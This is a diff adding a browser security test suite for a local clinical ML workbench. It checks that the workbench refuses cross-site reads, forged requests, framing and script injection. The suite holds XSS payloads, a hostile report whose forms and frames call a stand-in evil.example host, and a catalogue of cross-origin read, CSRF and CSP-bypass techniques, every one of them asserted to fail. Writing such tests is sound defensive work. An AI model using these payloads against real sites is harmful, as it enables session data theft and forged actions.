@@ -1,0 +1,604 @@
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import { join } from "node:path";
+import { gunzipSync, gzipSync } from "node:zlib";
+import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { bedside, scratch } from "./command.ts";
+import { browserPath, hasBrowser, type ServedProcess, startServer } from "./served.ts";
+
+/** Stands for what an attacker would like to read. */
+const secret = "a-run-nobody-else-may-know";
+/** Markup that would run a script if a name were ever taken for markup. */
+const markup = "<img src=x onerror=globalThis.pwned=1>";
+
+/** A run as its folder holds it, with markup in every text. */
+function hostileRun(evil: string) {
+  const title = (name: string) => `${markup}${name}`;
+  const figure = { id: "auroc", title: title("AUROC"), higherIsBetter: true, value: 0.8, low: 0.7, high: 0.9 };
+  const result = {
+    schema: 1,
+    task: {
+      id: "yaib/mortality24",
+      title: title(secret),
+      mode: "corrected",
+      question: title("question"),
+      label: title("label"),
+      predictionTime: title("time"),
+      outcome: "event",
+    },
+    data: { title: title("data"), version: title("1"), dataUse: "synthetic" },
+    cohort: { stays: 100, patients: 100 },
+    manifest: { startedAt: "2026-01-01T00:00:00Z", codeVersion: title("0"), seed: 1, command: title("bedside run") },
+    warnings: [title("warning")],
+    models: [
+      {
+        id: "lr",
+        title: title("Logistic"),
+        chosen: title("chosen"),
+        metrics: [figure],
+        threshold: { value: 0.5, rule: title("rule") },
+        subgroups: [
+          { family: title("all"), group: title("all"), patients: 100, metrics: [figure] },
+          { family: title("sex"), group: title("F"), patients: 50, metrics: [figure] },
+        ],
+        trainSeconds: 1,
+      },
+    ],
+  };
+  const report = `<!doctype html><title>report</title><h1>Report</h1>
+    <script>parent.pwned = 1; globalThis.pwned = 1; document.title = "ran";</script>
+    <img src="x" onerror="globalThis.pwned = 1; document.title = 'ran'">
+    <svg onload="document.title = 'ran'"></svg>
+    <img src="${evil}/from-report.png"><iframe src="${evil}/frame-of-report"></iframe>
+    <form action="${evil}/form-of-report"><input name="a"><button>send</button></form>
+    <a id="trick" href="javascript:document.title='ran'">link</a>
+    <meta http-equiv="refresh" content="0;url=${evil}/refresh-of-report">`;
+  return { result, report };
+}
+
+describe.skipIf(!hasBrowser())("attacks on the workbench in a real browser", () => {
+  const folder = scratch();
+  let server: ServedProcess;
+  let evilServer: Server;
+  let evilPort: number;
+  let browser: Browser;
+  let context: BrowserContext;
+  /** The user's own page, launched. */
+  let own: Page;
+  /** What reached the attacker's server. */
+  const reached: string[] = [];
+
+  beforeAll(async () => {
+    evilServer = createServer((incoming, outgoing) => {
+      reached.push(incoming.url!);
+      outgoing.writeHead(200, { "Content-Type": "text/html", "Access-Control-Allow-Origin": "*" });
+      outgoing.end("<!doctype html><title>evil</title><body>");
+    });
+    await new Promise<void>((done) => evilServer.listen(0, "127.0.0.1", done));
+    evilPort = (evilServer.address() as AddressInfo).port;
+
+    const hospital = folder.at("hospital");
+    const size = ["--patients", "40", "--seed", "3", "--modules", "hosp,icu", "--out", hospital, "--quiet"];
+    expect((await bedside(["synth", ...size])).code).toBe(0);
+    for (const table of ["hosp/d_labitems", "icu/d_items"]) {
+      const path = join(hospital, `${table}.csv.gz`);
+      const [head, ...lines] = gunzipSync(readFileSync(path)).toString().split("\n");
+      const hostile = lines.map((line) => line.replace(/^(\d+,"?)/, `$1${markup}`));
+      writeFileSync(path, gzipSync([head, ...hostile].join("\n")));
+    }
+    const store = folder.at("store");
+    expect((await bedside(["import", "--data", hospital, "--out", store, "--quiet"])).code).toBe(0);
+    for (const name of [secret, markup]) {
+      const run = folder.at("runs", name);
+      mkdirSync(run, { recursive: true });
+      const { result, report } = hostileRun(`http://evil.example:${evilPort}`);
+      writeFileSync(join(run, "report.json"), JSON.stringify(result));
+      writeFileSync(join(run, "report.html"), report);
+    }
+
+    server = await startServer(folder.at("runs"), [store]);
+    browser = await chromium.launch({
+      executablePath: browserPath,
+      args: ["--no-sandbox", "--host-resolver-rules=MAP evil.example 127.0.0.1"],
+    });
+    context = await browser.newContext();
+    own = await context.newPage();
+    await own.goto(server.link);
+    await own.waitForSelector(".paper");
+  });
+
+  afterAll(async () => {
+    await browser?.close();
+    evilServer?.close();
+    await server?.end();
+    folder.remove();
+  });
+
+  const jobs = async () => (await server.read<unknown[]>("/jobs")).length;
+
+  test("the user's own page reads and changes, so that a refusal below is a refusal of who asks", async () => {
+    expect(await own.evaluate(`fetch("/api/runs").then((answer) => answer.text())`)).toContain(secret);
+    const check = { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"yaml":"id: ["}' };
+    const asked = `fetch("/api/tasks/check", ${JSON.stringify(check)}).then(({ status }) => status)`;
+    expect(await own.evaluate(asked)).toBe(200);
+  });
+
+  /** Where an attacker's page may come from; the page is open beside the user's own, with the same cookies. */
+  const places: [string, () => string][] = [
+    ["a page of another site", () => `http://evil.example:${evilPort}/`],
+    ["a page of another port of this computer", () => `http://127.0.0.1:${evilPort}/`],
+    ["a page of localhost, of another port", () => `http://localhost:${evilPort}/`],
+    ["a page whose name was re-pointed to this server", () => `http://evil.example:${server.port}/`],
+  ];
+
+  /** Opens an attacker's page. The re-pointed one was loaded before its name changed: its document is given here. */
+  async function open(address: string, cookies = context): Promise<Page> {
+    const page = await cookies.newPage();
+    await page.route(`http://evil.example:${server.port}/`, (route) =>
+      route.fulfill({ contentType: "text/html", body: "<!doctype html><title>evil</title><body>" }),
+    );
+    await page.goto(address);
+    expect(await page.title()).toBe("evil");
+    return page;
+  }
+
+  /** Answers to attackers' requests that were no refusals, whether or not the browser let them be read. */
+  const letThrough: string[] = [];
+  const opened = new Map<string, Page>();
+  /** The attacker's page of that address, opened once and left open as long as it stays where it is. */
+  async function openAgain(address: string): Promise<Page> {
+    const before = opened.get(address);
+    if (before?.url() === address) return before;
+    await before?.close();
+    const page = await open(address);
+    page.on("response", (answer) => {
+      const isOurs = new URL(answer.url()).port === String(server.port);
+      if (isOurs && answer.status() < 400) letThrough.push(`${answer.status()} ${answer.url()}`);
+    });
+    opened.set(address, page);
+    return page;
+  }
+
+  /** The address of the server as that page would call it: the re-pointed one by its own name. */
+  const target = (address: string) => (address.includes(`:${server.port}/`) ? address.slice(0, -1) : server.origin);
+
+  /** Ways to read, as code in the attacker's page; `U` is the server. What they learn is their value. */
+  const readings: Record<string, string> = {
+    "fetch with cookies": `fetch(U + "/api/runs", { credentials: "include" }).then((answer) => answer.text())`,
+    "fetch without CORS":
+      'fetch(U + "/api/runs", { mode: "no-cors", credentials: "include" }).then((answer) => answer.text())',
+    "fetch with a token of its own":
+      'fetch(U + "/api/runs", { headers: { Authorization: "Bearer " + "A".repeat(43) } }).then((answer) => answer.text())',
+    XMLHttpRequest: `new Promise((done) => {
+      const request = new XMLHttpRequest();
+      request.withCredentials = true;
+      request.onloadend = () => done(request.responseText);
+      request.open("GET", U + "/api/runs");
+      request.send();
+    })`,
+    "a script element": `new Promise((done) => {
+      const script = document.createElement("script");
+      script.onload = () => done("${secret} was run");
+      script.onerror = () => done("");
+      script.src = U + "/api/runs";
+      document.body.append(script);
+    })`,
+    "a script element as a module, with cookies": `new Promise((done) => {
+      const script = document.createElement("script");
+      script.type = "module";
+      script.crossOrigin = "use-credentials";
+      script.onload = () => done("${secret} was run");
+      script.onerror = () => done("");
+      script.src = U + "/sw.js";
+      document.body.append(script);
+    })`,
+    "an image": `new Promise((done) => {
+      const image = new Image();
+      image.onload = () => done("${secret} has a size: " + image.width);
+      image.onerror = () => done("");
+      image.src = U + "/icon.svg";
+    })`,
+    "an image drawn on a canvas": `new Promise((done) => {
+      const image = new Image();
+      image.crossOrigin = "use-credentials";
+      image.onload = () => done("${secret} was drawn");
+      image.onerror = () => done("");
+      image.src = U + "/icon.svg";
+    })`,
+    "a style sheet": `new Promise((done) => {
+      const link = document.createElement("link");
+      link.rel = "stylesheet";
+      link.onload = () => done("${secret} has " + link.sheet.cssRules.length);
+      link.onerror = () => done("");
+      link.href = U + "/api/papers/feed.atom";
+      document.head.append(link);
+    })`,
+    "a video": `new Promise((done) => {
+      const video = document.createElement("video");
+      video.onloadedmetadata = () => done("${secret} plays");
+      video.onerror = () => done("");
+      video.src = U + "/api/runs";
+    })`,
+    "an object element": `new Promise((done) => {
+      const object = document.createElement("object");
+      object.onload = () => done(object.contentDocument ? object.contentDocument.body.textContent : "");
+      object.onerror = () => done("");
+      object.data = U + "/api/runs";
+      document.body.append(object);
+    })`,
+    "a frame of the page": `new Promise((done) => {
+      const frame = document.createElement("iframe");
+      frame.onload = () => {
+        try { done(frame.contentDocument.documentElement.outerHTML); } catch { done(""); }
+      };
+      frame.src = U + "/api/runs";
+      document.body.append(frame);
+    })`,
+    events: `new Promise((done) => {
+      const events = new EventSource(U + "/api/runs", { withCredentials: true });
+      events.onopen = () => done("${secret} is open");
+      events.onerror = () => { events.close(); done(""); };
+    })`,
+    "a web socket": `new Promise((done) => {
+      const socket = new WebSocket(U.replace("http", "ws") + "/api/runs");
+      socket.onopen = () => done("${secret} is open");
+      socket.onerror = () => done("");
+    })`,
+    "a worker": `new Promise((done) => {
+      const code = 'fetch("' + U + '/api/runs", { credentials: "include" }).then((a) => a.text()).then(postMessage, () => postMessage(""))';
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      worker.onmessage = ({ data }) => done(data);
+      worker.onerror = () => done("");
+    })`,
+    "a window it opens": `new Promise((done) => {
+      const other = open(U + "/runs");
+      setTimeout(() => {
+        let found = "";
+        try { found = other.document.documentElement.outerHTML; } catch {}
+        try { other.close(); } catch {}
+        done(found);
+      }, 500);
+    })`,
+  };
+
+  const crossed = places.flatMap(([place, address]) =>
+    Object.keys(readings).map((way) => [place, way, address] as const),
+  );
+  test.each(crossed)("%s reads nothing by %s", async (_, way, address) => {
+    const page = await openAgain(address());
+    const code = `(async () => { const U = ${JSON.stringify(target(address()))}; return ${readings[way]}; })()`;
+    const learnt = await page.evaluate(code).catch((error: Error) => {
+      expect(error.message).toMatch(/Failed to fetch|TypeError|SecurityError/);
+      return "";
+    });
+    expect(String(learnt)).not.toContain(secret);
+    expect(String(learnt)).not.toContain("schema");
+    expect(letThrough.splice(0)).toEqual([]);
+  });
+
+  /** Ways to change something, as code in the attacker's page. */
+  const changes: Record<string, string> = {
+    "fetch of JSON":
+      'fetch(U + P, { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: B })',
+    "fetch without CORS": 'fetch(U + P, { method: "POST", mode: "no-cors", credentials: "include", body: B })',
+    "fetch without CORS, of a typed blob":
+      'fetch(U + P, { method: "POST", mode: "no-cors", credentials: "include", body: new Blob([B], { type: "text/plain;application/json" }) })',
+    "fetch with a method to override":
+      'fetch(U + P, { method: "POST", credentials: "include", headers: { "X-HTTP-Method-Override": "PUT" }, body: B })',
+    "a beacon": 'Promise.resolve(navigator.sendBeacon(U + P, new Blob([B], { type: "text/plain" })))',
+    "a beacon of JSON": 'Promise.resolve(navigator.sendBeacon(U + P, new Blob([B], { type: "application/json" })))',
+    ...Object.fromEntries(
+      ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"].map((enctype) => [
+        `a form of ${enctype}`,
+        `new Promise((done) => {
+          const frame = document.createElement("iframe");
+          frame.name = "out";
+          const form = document.createElement("form");
+          Object.assign(form, { method: "POST", action: U + P, enctype: "${enctype}", target: "out" });
+          const field = document.createElement("input");
+          field.name = B.slice(0, -1) + ',"x":"';
+          field.value = '"}';
+          form.append(field);
+          document.body.append(frame, form);
+          setTimeout(() => { frame.onload = done; form.submit(); setTimeout(done, 700); }, 50);
+        })`,
+      ]),
+    ),
+    "a form of a frame without an origin": `new Promise((done) => {
+      const frame = document.createElement("iframe");
+      frame.sandbox = "allow-forms allow-scripts";
+      frame.srcdoc = '<form method="POST" enctype="text/plain" action="' + U + P + '"><input name="{" value="}"></form>' +
+        "<script>document.forms[0].submit()</" + "script>";
+      document.body.append(frame);
+      setTimeout(done, 500);
+    })`,
+    "fetch of a frame without an origin": `new Promise((done) => {
+      const frame = document.createElement("iframe");
+      frame.sandbox = "allow-scripts";
+      frame.srcdoc = "<script>fetch('" + U + P + "', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '" + B +
+        "' })</" + "script>";
+      document.body.append(frame);
+      setTimeout(done, 500);
+    })`,
+    "a form that leads the whole window away": `new Promise((done) => {
+      const form = document.createElement("form");
+      Object.assign(form, { method: "POST", action: U + P, enctype: "text/plain" });
+      document.body.append(form);
+      done();
+      form.submit();
+    })`,
+  };
+
+  const sent = places.flatMap(([place, address]) => Object.keys(changes).map((way) => [place, way, address] as const));
+  test.each(sent)("%s starts nothing by %s", async (_, way, address) => {
+    const before = await jobs();
+    const page = await openAgain(address());
+    const [body, path] = ['{"task":"yaib/mortality24","models":["lr"]}', "/api/jobs/run"];
+    const names = `const [U, P, B] = ${JSON.stringify([target(address()), path, body])};`;
+    await page.evaluate(`(async () => { ${names} await ${changes[way]}; })()`).catch(() => {});
+    if (/beacon|away/.test(way)) await page.waitForTimeout(150); // nothing tells when these are over
+    expect(await jobs()).toBe(before);
+    expect(letThrough.splice(0)).toEqual([]);
+  });
+
+  test.each(places.slice(0, 3))("%s cannot frame the page or a report", async (_, address) => {
+    const page = await open(address());
+    for (const path of ["/", "/runs", `/api/runs/${await runId(own, secret)}/report`]) {
+      const shown = await page.evaluate(`new Promise((done) => {
+        const frame = document.createElement("iframe");
+        frame.onload = () => { let href = "closed"; try { href = frame.contentWindow.location.href; } catch {} done(href); };
+        frame.src = ${JSON.stringify(server.origin + path)};
+        document.body.append(frame);
+      })`);
+      expect(shown).toBe("closed");
+    }
+    for (const frame of page.frames().slice(1)) expect(await frame.content()).not.toContain("Bedside");
+    await page.close();
+  });
+
+  test("a cookie is sent by no request of another site, and the page behind a link from there is refused", async () => {
+    const page = await open(`http://evil.example:${evilPort}/`);
+    const session = await context.newCDPSession(page);
+    await session.send("Network.enable");
+    const heads: Record<string, string>[] = [];
+    session.on("Network.requestWillBeSentExtraInfo", ({ headers }) => {
+      if (headers["Host"] === `127.0.0.1:${server.port}`) heads.push(headers);
+    });
+    for (const mode of ["cors", "no-cors"]) {
+      await page.evaluate(
+        `fetch("${server.origin}/api/runs", { mode: "${mode}", credentials: "include" }).catch(() => {})`,
+      );
+    }
+    await page.evaluate(`void (location.href = ${JSON.stringify(`${server.origin}/runs`)})`);
+    await page.waitForURL(`${server.origin}/runs`);
+    expect(heads.length).toBeGreaterThanOrEqual(2);
+    expect(heads.filter((head) => head["Cookie"] !== undefined)).toEqual([]);
+    expect(await page.locator("body").textContent()).toContain("guard/cross-site");
+    await page.close();
+  });
+
+  test("a window that another site opens is not tied to it", async () => {
+    const page = await open(`http://evil.example:${evilPort}/`);
+    const [popup] = await Promise.all([
+      page.waitForEvent("popup"),
+      page.evaluate(`void (globalThis.other = open(${JSON.stringify(`${server.origin}/`)}))`),
+    ]);
+    await popup.waitForLoadState();
+    expect(await popup.evaluate("opener === null")).toBe(true);
+    expect(await page.evaluate("other.closed")).toBe(true); // cut off by the opener policy
+    await popup.close();
+    await page.close();
+  });
+
+  test("the server's other name is another place: it has no session, and does not see into this one", async () => {
+    const page = await context.newPage();
+    const address = `http://localhost:${server.port}`;
+    await page.goto(`${address}/`);
+    expect(await page.evaluate(`fetch("/api/runs").then(({ status }) => status)`)).toBe(401);
+    const other = `fetch("${server.origin}/api/runs", { credentials: "include" }).then((a) => a.text())`;
+    expect(await page.evaluate(`${other}.catch(() => "nothing")`)).toBe("nothing");
+    await page.close();
+  });
+
+  test("a browser that was not launched sees the empty page and no data", async () => {
+    const stranger = await browser.newContext();
+    const page = await stranger.newPage();
+    await page.goto(`${server.origin}/runs`);
+    await page.getByRole("alert").first().waitFor();
+    expect(await page.content()).not.toContain(secret);
+    await stranger.close();
+  });
+
+  /** Code that a fault in the page might let in, run outside the debugger's own permission. */
+  const inserted: Record<string, string> = {
+    "an inline script": `const script = document.createElement("script");
+      script.textContent = "globalThis.pwned = 1"; document.body.append(script);`,
+    "an inline handler": `document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)});`,
+    eval: `try { (0, eval)("globalThis.pwned = 1"); } catch {}`,
+    "a function made of text": `try { new Function("globalThis.pwned = 1")(); } catch {}`,
+    "a timer made of text": `try { setTimeout("globalThis.pwned = 1"); } catch {}`,
+    "an address that is a script": `const link = document.createElement("a");
+      link.href = "javascript:globalThis.pwned=1"; document.body.append(link); link.click();`,
+    "a script of another host": `const script = document.createElement("script");
+      script.src = EVIL + "/script"; document.body.append(script);`,
+    "a script in a data address": `const script = document.createElement("script");
+      script.src = "data:text/javascript,globalThis.pwned=1"; document.body.append(script);`,
+    "a script in a blob": `const script = document.createElement("script");
+      script.src = URL.createObjectURL(new Blob(["globalThis.pwned=1"])); document.body.append(script);`,
+    "an imported module of another host": `import(EVIL + "/module").catch(() => {});`,
+    "a worker of a blob": `try {
+      new Worker(URL.createObjectURL(new Blob(["fetch('" + EVIL + "/worker', { mode: 'no-cors' })"])));
+    } catch {}`,
+    fetch: `fetch(EVIL + "/fetch", { mode: "no-cors" }).catch(() => {});`,
+    "a beacon": `navigator.sendBeacon(EVIL + "/beacon", "data");`,
+    "an image": `new Image().src = EVIL + "/image";`,
+    "a style sheet": `const link = document.createElement("link"); link.rel = "stylesheet"; link.href = EVIL + "/style";
+      document.head.append(link);`,
+    "a style element": `const style = document.createElement("style");
+      style.textContent = "body { background: url(" + EVIL + "/background) }"; document.head.append(style);`,
+    "a style attribute": `document.body.setAttribute("style", "background: url(" + EVIL + "/attribute)");`,
+    "a font": `const font = new FontFace("x", "url(" + EVIL + "/font)"); font.load().catch(() => {});`,
+    "a frame": `const frame = document.createElement("iframe"); frame.src = EVIL + "/frame"; document.body.append(frame);`,
+    "a form": `const form = document.createElement("form"); form.method = "POST"; form.action = EVIL + "/form";
+      document.body.append(form); form.submit();`,
+    "a web socket": `try { new WebSocket(EVIL.replace("http", "ws") + "/socket"); } catch {}`,
+    events: `try { new EventSource(EVIL + "/events"); } catch {}`,
+    "an object element": `const object = document.createElement("object"); object.data = EVIL + "/object";
+      document.body.append(object);`,
+    "a base of all addresses": `const base = document.createElement("base"); base.href = EVIL + "/";
+      document.head.append(base); new Image().src = "base";`,
+    "a page to be prefetched": `const link = document.createElement("link"); link.rel = "prefetch"; link.href = EVIL + "/prefetch";
+      document.head.append(link);`,
+  };
+  test.each(Object.keys(inserted))("in the page itself %s is stopped by its policy", async (name) => {
+    const page = await context.newPage();
+    await page.goto(`${server.origin}/`);
+    const before = reached.length;
+    const evil = JSON.stringify(`http://evil.example:${evilPort}`);
+    const stopped = await page.evaluate(`new Promise((done) => {
+      const found = [];
+      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => found.push(effectiveDirective));
+      setTimeout(() => { const EVIL = ${evil}; ${inserted[name]} }, 0);
+      const start = performance.now();
+      const look = () => (found.length || performance.now() - start > 3000 ? done(found) : setTimeout(look, 20));
+      setTimeout(look, 100);
+    })`);
+    expect(stopped).not.toEqual([]);
+    expect(await page.evaluate("globalThis.pwned")).toBeUndefined();
+    expect(reached.slice(before)).toEqual([]);
+    await page.close();
+  });
+
+  test("in the page itself a frame with its own text runs no script", async () => {
+    const page = await context.newPage();
+    await page.goto(`${server.origin}/`);
+    const scripts = await page.evaluate(`new Promise((done) => {
+      const frame = document.createElement("iframe");
+      frame.srcdoc = "<script>parent.pwned=1</" + "script><p>text";
+      frame.onload = () => done(frame.contentDocument.scripts.length);
+      document.body.append(frame);
+    })`);
+    expect(scripts).toBe(1);
+    expect(await page.evaluate("globalThis.pwned")).toBeUndefined();
+    await page.close();
+  });
+
+  const shown: [string, () => Promise<string>, string][] = [
+    ["the name of a run, in the list", async () => "/runs", "td a"],
+    ["the texts of a run", async () => `/runs/${await runId(own, markup)}`, "h1"],
+    ["the name of a run, on the leaderboard", async () => "/leaderboard", ".choices label"],
+    ["a run's result beside a paper", async () => "/papers/yaib", "main"],
+  ];
+  test.each(shown)("markup in %s is shown as text", async (_, address, selector) => {
+    const page = await context.newPage();
+    await page.goto(`${server.origin}${await address()}`, { waitUntil: "networkidle" });
+    await page.locator(selector, { hasText: markup }).first().waitFor();
+    await expectHarmless(page);
+    await page.close();
+  });
+
+  test("markup in the names of what was measured is shown as text, in the choice and in the table", async () => {
+    const page = await context.newPage();
+    await page.goto(`${server.origin}/patients`);
+    await page.locator("tbody a").first().click();
+    await page.locator(".choice span", { hasText: markup }).first().waitFor();
+    await page.getByRole("button", { name: "As a table" }).click();
+    await page.locator("td", { hasText: markup }).first().waitFor();
+    await expectHarmless(page);
+    await page.close();
+  });
+
+  test("markup in a task that is being written is shown as text", async () => {
+    const page = await context.newPage();
+    await page.goto(`${server.origin}/cohorts?task=yaib/mortality24`);
+    const editor = page.getByRole("textbox", { name: "The task's file" });
+    await editor.waitFor();
+    const yaml = await editor.inputValue();
+    await editor.fill(yaml.replace(/^id: .*$/m, `id: "${markup}"`));
+    await page.locator(".complaint").waitFor();
+    await editor.fill(`"${markup}": 1\n${yaml}`);
+    await page.locator(".complaint", { hasText: markup }).waitFor();
+    await expectHarmless(page);
+    await page.close();
+  });
+
+  test("markup in an address is nothing", async () => {
+    const page = await context.newPage();
+    for (const path of [`/runs?task=${encodeURIComponent(markup)}`, `/cohorts?task=${encodeURIComponent(markup)}`]) {
+      await page.goto(`${server.origin}${path}`, { waitUntil: "networkidle" });
+      await expectHarmless(page);
+    }
+    await page.close();
+  });
+
+  test("the feed of results stays XML, with names as text", async () => {
+    const found = await own.evaluate(`fetch("/api/papers/feed.atom").then((answer) => answer.text()).then((text) => {
+      const feed = new DOMParser().parseFromString(text, "application/xml");
+      return [feed.querySelectorAll("parsererror, img").length, feed.querySelector("entry title").textContent];
+    })`);
+    expect(found).toEqual([0, expect.stringContaining(markup)]);
+  });
+
+  test("a report in its frame runs no script, asks nobody and leads nowhere", async () => {
+    const before = reached.length;
+    const page = await context.newPage();
+    await page.goto(`${server.origin}/runs/${await runId(own, secret)}`);
+    const frame = page.frameLocator("iframe");
+    await frame.getByRole("heading", { name: "Report" }).waitFor();
+    await frame.locator("#trick").click();
+    await frame.getByRole("button", { name: "send" }).click();
+    await page.waitForTimeout(500);
+    await frame.getByRole("heading", { name: "Report" }).waitFor();
+    await expectHarmless(page);
+    expect(reached.slice(before)).toEqual([]);
+    await page.close();
+  });
+
+  test("a report in a window of its own runs no script, asks nobody and reads nothing", async () => {
+    const before = reached.length;
+    const page = await context.newPage();
+    await page.goto(`${server.origin}/api/runs/${await runId(own, secret)}/report`);
+    await page.locator("#trick").click();
+    await page.getByRole("button", { name: "send" }).click();
+    await page.waitForTimeout(500);
+    expect(await page.title()).toBe("report");
+    expect(await page.evaluate("[globalThis.pwned, origin]")).toEqual([undefined, "null"]);
+    expect(reached.slice(before)).toEqual([]);
+    await page.close();
+  });
+
+  test("an answer of the API opened as a document is no page", async () => {
+    const page = await context.newPage();
+    await page.goto(`${server.origin}/api/runs`);
+    expect(await page.evaluate("document.contentType")).toBe("application/json");
+    expect(await page.locator("img").count()).toBe(0);
+    await page.close();
+  });
+
+  test("no script sees the cookie, and the page keeps nothing of patients or runs", async () => {
+    expect(await own.evaluate("document.cookie")).toBe("");
+    await own.goto(`${server.origin}/runs`, { waitUntil: "networkidle" });
+    const kept = await own.evaluate(`caches.keys().then(async (names) => {
+      const requests = await Promise.all(names.map((name) => caches.open(name).then((cache) => cache.keys())));
+      return requests.flat().map(({ url }) => new URL(url).pathname);
+    })`);
+    expect((kept as string[]).filter((path) => path.startsWith("/api/") && !path.startsWith("/api/models"))).toEqual(
+      [],
+    );
+    expect(await own.evaluate("JSON.stringify({ ...localStorage, ...sessionStorage })")).not.toContain(secret);
+  });
+
+  async function expectHarmless(page: Page): Promise<void> {
+    expect(await page.evaluate("globalThis.pwned")).toBeUndefined();
+    expect(await page.locator("img[src='x']").count()).toBe(0);
+    expect(await page.title()).not.toBe("ran");
+  }
+});
+
+/** The id of a run in addresses, as the page knows it. */
+async function runId(page: Page, name: string): Promise<string> {
+  const found = `fetch("/api/runs").then((answer) => answer.json()).then((runs) => runs.find((run) => run.name === NAME).id)`;
+  return (await page.evaluate(found.replace("NAME", JSON.stringify(name)))) as string;
+}
